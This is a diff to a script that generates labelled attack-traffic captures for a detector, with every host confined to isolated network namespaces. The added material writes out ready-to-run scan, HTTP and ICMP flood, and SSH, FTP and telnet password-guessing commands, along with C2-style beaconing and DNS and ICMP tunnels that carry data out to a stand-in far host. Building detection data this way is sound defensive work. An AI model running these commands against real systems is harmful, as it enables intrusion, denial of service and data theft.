@@ -1,12 +1,13 @@
 #!/usr/bin/env python3
 """Makes the captures of tests/data/traffic: real tools between network namespaces, recorded by tcpdump.
 
-  scripts/traffic.py FOLDER              all of them, one after the other (a quarter of an hour)
+  scripts/traffic.py FOLDER              all of them, one after the other (an hour)
   scripts/traffic.py FOLDER NAME...      only these
   scripts/traffic.py --list              what there is
 
-Needs root, and the packages iproute2 tcpdump nmap hping3 hydra openssh-server sshpass vsftpd dnsmasq-base curl.
-Nothing leaves the machine: six hosts hang on a bridge in namespaces of their own, without a way out. What a host does is told by its
+Needs root, and the packages iproute2 iptables tcpdump nmap masscan fping hping3 slowhttptest siege hydra ncrack medusa openssh-server
+dropbear-bin sshpass vsftpd dnsmasq-base curl openssl iodine dns2tcp ptunnel-ng.
+Nothing leaves the machine: seven hosts hang on a bridge in namespaces of their own, without a way out. What a host does is told by its
 address, which is how the records are labelled (models/flow/captures.yml):
 
   10.77.0.10 10.77.0.11   servers: sshd, vsftpd, web, names; .11 drops what it does not serve
@@ -14,6 +15,8 @@ address, which is how the records are labelled (models/flow/captures.yml):
   10.77.0.21 10.77.0.22   clients that do ordinary things all the while
   10.77.0.66              does what the capture is called after
   10.77.0.99              the far end of beacons and of what is carried out
+  10.77.0.98              the far end of tunnels
+  203.0.113.0/24          addresses where nobody answers
 
 Each capture runs for two minutes or less and is cut to the first bytes of each packet; sizes and times differ from run to run, what
 happens does not. office.ndjson.gz is not of this script: `oversight simulate --seed 11 --hours 13`, its uids numbered and what a
@@ -32,7 +35,7 @@ import tempfile
 import time
 import zlib
 
-HOSTS = {"web": 10, "shy": 11, "anna": 21, "ben": 22, "mallory": 66, "far": 99}
+HOSTS = {"web": 10, "shy": 11, "anna": 21, "ben": 22, "mallory": 66, "deep": 98, "far": 99}
 LAN = "ovlan"
 PASSWORDS = ["123456", "letmein", "qwerty", "admin", "root", "toor", "dragon", "monkey", "summer24", "hunter2"]
 
@@ -64,6 +67,10 @@ def address(host):
     return f"10.77.0.{HOSTS[host]}"
 
 
+def card(host):
+    return f"02:00:0a:4d:00:{HOSTS[host]:02x}"
+
+
 class Network:
     """The hosts and what they serve."""
 
@@ -77,11 +84,13 @@ class Network:
             run(f"ip netns add ov{host}")
             run(f"ip link add eth0 netns ov{host} type veth peer name v{last} netns {LAN}")
             run(f"ip -n {LAN} link set v{last} master br0 up")
+            run(f"ip -n ov{host} link set eth0 address {card(host)}")
             run(f"ip -n ov{host} addr add {address(host)}/24 dev eth0")
             run(f"ip -n ov{host} link set eth0 up")
             run(f"ip -n ov{host} link set lo up")
         for last in range(30, 60):
             run(f"ip -n ovweb addr add 10.77.0.{last}/24 dev eth0")
+        run(f"ip -n ovmallory route add 203.0.113.0/24 via {address('shy')}")
         self.serve()
         time.sleep(2)
         return self
@@ -120,6 +129,20 @@ class Network:
                   "  d=self.request.recv(900); self.request.sendall(b'x'*90); time.sleep(0.7)\n"
                   "  self.request.setsockopt(k.SOL_SOCKET, k.SO_LINGER, t.pack('ii',1,0)); self.request.close()\n"
                   "class T(s.ThreadingTCPServer): allow_reuse_address=True\nT(('',1337),H).serve_forever()\"")
+        telnet = ("python3 -c \"import socketserver as s\nclass H(s.StreamRequestHandler):\n timeout=20\n def handle(self):\n"
+                  "  w=self.wfile; w.write(bytes([255,253,1,255,253,31,255,251,3])+b'box login: ')\n  for i in range(3):\n"
+                  "   self.rfile.readline(); w.write(b'Password: '); self.rfile.readline(); w.write(b'\\r\\nLogin incorrect\\r\\nbox login: ')\n"
+                  "class T(s.ThreadingTCPServer): allow_reuse_address=True\nT(('',23),H).serve_forever()\"")
+        run(f"openssl req -x509 -newkey rsa:2048 -nodes -keyout {d}/tls.key -out {d}/tls.pem -subj /CN=far -days 30")
+        run(f"dropbearkey -t ed25519 -f {d}/dropbear", check=False)
+        sealed = receiver.replace("import http.server as s", "import http.server as s, ssl").replace(
+            "s.ThreadingHTTPServer(('',443),H).serve_forever()",
+            f"v=s.ThreadingHTTPServer(('',8443),H)\nc=ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)\n"
+            f"c.load_cert_chain('{d}/tls.pem','{d}/tls.key')\nv.socket=c.wrap_socket(v.socket,server_side=True)\nv.serve_forever()")
+        self.servers += [start("web", telnet), start("far", sealed), start("deep", receiver),
+                         start("web", f"dropbear -F -r {d}/dropbear -p 2222 -P {d}/dropbear.pid")]
+        with open(f"{d}/dns2tcpd.conf", "w") as conf:
+            conf.write(f"listen={address('deep')}\nport=53\nuser=nobody\nchroot=/tmp\ndomain=d.example.net\nresources=up:127.0.0.1:443\n")
         self.servers += [start("far", receiver), start("far", irc), start("far", broken), start("far", sshd),
                          start("far", "dnsmasq -k -h -R -C /dev/null --address=/#/10.77.0.99 --pid-file")]
         inside("shy", "iptables -A INPUT -p tcp -m multiport ! --dports 21,22,80 --syn -j DROP")
@@ -243,6 +266,54 @@ def silent(server, seconds):
         thread.join()
 
 
+def peers(pause, seconds):
+    """What a bot asks the bots that it knows of, most of which are no more: a few bytes by UDP to one after the other."""
+    import socket
+    chance, until = random.Random(5), time.time() + seconds
+    known = [(f"10.77.0.{chance.choice([11, *range(30, 60)])}", chance.randint(1024, 65000)) for _ in range(40)]
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as wire:
+        wire.bind(("", 31337))
+        while time.time() < until:
+            wire.sendto(chance.randbytes(chance.choice([16, 60, 108])), chance.choice(known))
+            time.sleep(pause * chance.expovariate(1.0))
+
+
+def orders_in_names(server, pause, seconds):
+    """Asks for orders by names, each with a number of its own."""
+    chance, until = random.Random(9), time.time() + seconds
+    while time.time() < until:
+        ask(server, f"{chance.getrandbits(48):012x}.c.example.net")
+        time.sleep(pause * random.uniform(0.8, 1.2))
+
+
+def lookups(server, pause, seconds):
+    """What a mail server or a page with many parts looks up: names of all sorts, some of them long."""
+    chance, until = random.Random(3), time.time() + seconds
+    hosts = ["www", "mail", "mx1", "cdn", "img", "static", "api", "e1234.dscb", "s3.eu-west-1", "_dmarc", "selector1._domainkey", "ns2"]
+    while time.time() < until:
+        for _ in range(chance.choice([1, 2, 6, 12])):
+            ask(server, f"{chance.choice(hosts)}.{''.join(chance.choices('aeiou', k=3))}{chance.choice(['shop', 'bank', 'news', 'post'])}"
+                        f"{chance.randint(1, 60)}.example.{chance.choice(['com', 'org', 'net'])}")
+        time.sleep(pause * chance.expovariate(1.0))
+
+
+def guess_telnet(first, last, tries, pause):
+    """What bots of boxes do: looks from host to host for a login, and tries what boxes are sold with."""
+    import socket
+    for host in range(first, last):
+        for number in range(tries):
+            try:
+                with socket.create_connection((f"10.77.0.{host}", 23), timeout=3) as wire:
+                    for _ in range(1 + number % 3):
+                        for word in ("root", PASSWORDS[number % len(PASSWORDS)]):
+                            wire.recv(400)
+                            wire.sendall(word.encode() + b"\r\n")
+                    wire.recv(400)
+            except OSError:
+                pass
+            time.sleep(pause)
+
+
 def scan_connect(server, first, last, pause):
     import socket
     for port in range(first, last):
@@ -273,16 +344,18 @@ def pings(first, last, count, pause):
         time.sleep(pause)
 
 
-def call_home(server, pause, jitter, seconds, size):
+def call_home(server, pause, jitter, seconds, size, sealed=0):
     """Asks a web server for orders, and tells it something each fifth time."""
+    import ssl
     import urllib.request
     until, number = time.time() + seconds, 0
+    place, trust = (f"https://{server}:8443", ssl._create_unverified_context()) if sealed else (f"http://{server}:443", None)
     while time.time() < until:
         number += 1
         data = b"r" * (size * 4) if number % 5 == 0 else None
         try:
-            request = urllib.request.Request(f"http://{server}:443/{'a' * (size % 90)}?id=77", data=data)
-            urllib.request.urlopen(request, timeout=3).read()
+            request = urllib.request.Request(f"{place}/{'a' * (size % 90)}?id=77", data=data)
+            urllib.request.urlopen(request, timeout=3, context=trust).read()
         except OSError:
             pass
         time.sleep(pause * random.uniform(1 - jitter, 1 + jitter))
@@ -357,6 +430,13 @@ def mine(what, *arguments):
     return f"python3 {os.path.abspath(__file__)} --do {what} " + " ".join(map(str, arguments))
 
 
+def through(tunnel, up, rounds=3):
+    """Opens a tunnel, carries something out through it, and closes it again, so many times."""
+    return (f"sh -c 'for i in $(seq 1 {rounds}); do {tunnel} & t=$!; sleep 4; head -c $((i * 90000)) /dev/urandom | curl -s -m 20 -T - {up}; "
+            "kill $t; wait $t; sleep 1; done'")
+
+
+D = address("deep")
 W, S, F, LANS = address("web"), address("shy"), address("far"), "10.77.0.0/24"
 LIST = "/tmp/ov-passwords"
 CAPTURES = {
@@ -416,6 +496,38 @@ CAPTURES = {
     "carry-hex": (60, [mine("carry_in_names", F, 300, 50, 0.15)]),
     "carry-ftp": (50, [mine("carry_by_ftp", W, 12)]),
     "carry-web-parts": (60, [f"sh -c 'for i in $(seq 1 25); do head -c $((i % 5 + 1))000000 /dev/urandom | curl -s -m 30 -T - http://{F}:443/$i; sleep 1; done'"]),
+    "scan-masscan": (40, [f"masscan -p1-900 --rate 120 --wait 2 -e eth0 --router-mac {card('web')} {W}"]),
+    "scan-masscan-net": (40, [f"masscan -p23,445,8080 --rate 30 --wait 2 -e eth0 --router-mac {card('web')} 10.77.0.30-10.77.0.59"]),
+    "scan-void": (45, [f"masscan -p23,2323,37215 --rate 20 --wait 1 -e eth0 --router-mac {card('shy')} 203.0.113.0/24", "nmap -n -Pn -sS -T4 --max-retries 1 -p5555 203.0.113.0/25"]),
+    "scan-void-slow": (75, [f"nmap -n -Pn -sT --scan-delay 300ms --max-retries 0 -p23 203.0.113.0-199"]),
+    "scan-fping": (45, [f"fping -c 1 -i 20 -q -g {LANS}", "fping -c 2 -i 150 -q -g 10.77.0.10 10.77.0.70"]),
+    "scan-versions-net": (60, ["nmap -n -Pn -sV -p21,22,23,53,80 10.77.0.30-44"]),
+    "scan-versions-one": (50, [f"nmap -n -Pn -sV --version-all -p80 {S}", f"nmap -n -Pn -sV -p22 {W}", "nmap -n -Pn --script banner -p21,22,23,2222 10.77.0.30-36"]),
+    "flood-slow-heads": (40, [f"slowhttptest -c 250 -H -i 3 -r 60 -t GET -u http://{W}/1.html -x 24 -p 3 -l 30"]),
+    "flood-slow-bodies": (40, [f"slowhttptest -c 250 -B -i 4 -r 40 -s 8192 -t POST -u http://{W}/ -x 10 -p 3 -l 30"]),
+    "flood-slow-reads": (40, [f"slowhttptest -c 200 -X -r 50 -w 512 -y 1024 -n 5 -z 32 -k 3 -u http://{W}/7.html -p 3 -l 30"]),
+    "flood-pages": (15, [f"siege -q -b -c 40 -t 2S http://{W}/3.html"]),
+    "flood-replies": (20, [f"hping3 --icmp --icmptype 0 -d 900 -i u500 -c 3000 {W}", f"hping3 --icmp --icmptype 0 --rand-source -d 60 -i u800 -c 2000 {W}"]),
+    "flood-syn-steady": (30, [f"hping3 -S -p 443 -i u8000 -c 2500 {W}"]),
+    "guess-ssh-ncrack": (60, [f"ncrack -u root -P {LIST} -T4 ssh://{W}"]),
+    "guess-ftp-ncrack": (50, [f"ncrack -u admin -P {LIST} ftp://{S}"]),
+    "guess-ssh-medusa": (60, [f"medusa -h {W} -u root -P {LIST} -M ssh -t 3"]),
+    "guess-ftp-medusa": (50, [f"medusa -h {S} -u admin -P {LIST} -M ftp -t 4"]),
+    "guess-telnet-hydra": (50, [f"hydra -I -t 6 -l root -P {LIST} telnet://{W}"]),
+    "guess-telnet-ncrack": (50, [f"ncrack -u root -P {LIST} telnet://{W}"]),
+    "guess-telnet-around": (60, [mine("guess_telnet", 30, 58, 6, 0.15)]),
+    "guess-dropbear-hydra": (60, [f"hydra -I -t 4 -s 2222 -l root -P {LIST} ssh://{W}"]),
+    "guess-ssh-medusa-around": (75, [f"medusa -h 10.77.0.{last} -u root -P /tmp/ov-few -M ssh" for last in range(30, 50)]),
+    "beacon-sealed": (115, [mine("call_home", F, 5, 0.3, 112, 60, 1)]),
+    "beacon-sealed-fast": (60, [mine("call_home", F, 1.5, 0.1, 56, 20, 1)]),
+    "beacon-patient": (118, [mine("beacon", "203.0.113.77", 443, 7, 0.3, 115, 60)]),
+    "beacon-peers": (90, [mine("peers", 0.8, 86)]),
+    "beacon-names": (90, [mine("orders_in_names", F, 2, 86)]),
+    "carry-iodine": (110, [through(f"iodine -f -r -P secret {D} t.example.net", "http://172.30.7.1:443/up")], f"iodined -f -c -P secret 172.30.7.1/24 t.example.net"),
+    "carry-dns2tcp": (110, [through(f"dns2tcpc -r up -z d.example.net -l 4433 {D}", "http://127.0.0.1:4433/up")], "dns2tcpd -F -f FOLDER/dns2tcpd.conf"),
+    "carry-pings": (110, [through(f"ptunnel-ng -p{D} -l4433 -r127.0.0.1 -R443", "http://127.0.0.1:4433/up")], "ptunnel-ng"),
+    "carry-sealed": (50, [f"sh -c 'for i in 9 21 40 64; do head -c $((i * 1000000)) /dev/urandom | curl -s -k -m 30 -T - https://{F}:8443/$i; sleep 2; done'"]),
+    "quiet-names": (75, [mine("lookups", W, 0.7, 70)]),
     "quiet-admin": (75, [mine("look_after", "KEY", W, 1.5, 70)]),
     "quiet-poll": (75, [mine("many", 2, "poll", W, 2, 70)]),
     "quiet": (120, []),
@@ -435,11 +547,19 @@ def cut(capture, most):
     return b"".join(out)
 
 
+def most_of(name):
+    """Bytes of a packet that are kept: of names all, for that is what is told by them."""
+    if any(word in name for word in ("names", "hex", "iodine", "dns2tcp")):
+        return 600
+    return 90 if "ssh" in name or name == "carry-web" else 110
+
+
 def record(network, folder, name):
-    seconds, commands = CAPTURES[name]
+    seconds, commands, *beyond = CAPTURES[name]
     raw = os.path.join(network.folder, "raw.pcap")
-    tcpdump = subprocess.Popen(["ip", "netns", "exec", LAN, "tcpdump", "-i", "br0", "-s", "160", "-w", raw, "-U", "-B", "16384", "ip"],
+    tcpdump = subprocess.Popen(["ip", "netns", "exec", LAN, "tcpdump", "-i", "br0", "-s", "600", "-w", raw, "-U", "-B", "16384", "ip"],
                                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    servers = [start("deep", command.replace("FOLDER", network.folder)) for command in beyond]
     time.sleep(1)
     until = time.time() + seconds
     clients = []
@@ -465,11 +585,12 @@ def record(network, folder, name):
         except ProcessLookupError:
             pass
         os.waitpid(child, 0)
+    stop(servers)
     tcpdump.terminate()
     tcpdump.wait()
     with open(raw, "rb") as content, open(os.path.join(folder, f"{name}.pcap.gz"), "wb") as out:
         with gzip.GzipFile(fileobj=out, mode="wb", mtime=0, filename="") as packed:
-            packed.write(cut(content.read(), 90 if "ssh" in name or name == "carry-web" else 110))
+            packed.write(cut(content.read(), most_of(name)))
     print(f"{name}: {os.path.getsize(raw):,} bytes", flush=True)
 
 
@@ -485,11 +606,14 @@ def main():
     elif arguments:
         with open(LIST, "w") as passwords:
             passwords.writelines(f"{word}{number}\n" for number in range(60) for word in PASSWORDS)
+        with open("/tmp/ov-few", "w") as passwords:
+            passwords.writelines(f"{word}\n" for word in PASSWORDS[:4])
         os.makedirs(arguments[0], exist_ok=True)
         with Network() as network:
             for name in arguments[1:] or CAPTURES:
                 record(network, arguments[0], name)
         os.remove(LIST)
+        os.remove("/tmp/ov-few")
     else:
         sys.exit(__doc__)
 
